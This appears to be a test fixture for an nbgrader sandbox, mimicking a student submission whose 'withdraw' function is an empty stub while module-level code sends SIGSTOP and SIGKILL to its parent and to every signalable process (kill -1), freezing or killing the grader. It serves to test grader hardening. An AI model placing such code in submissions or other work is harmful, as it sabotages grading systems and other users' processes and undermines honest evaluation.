# expect: withdraw=zero
# why: stops its parent (SIGSTOP), then stops and kills every process it can signal (kill -1): under a plain grader that freezes or ends nbgrader itself and nobody after it is graded
# %% withdraw
import os
import signal


def withdraw(lock, account, amount):
    pass


for _sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(os.getppid(), _sig)
    except OSError:
        pass
for _sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(-1, _sig)
    except OSError:
        pass
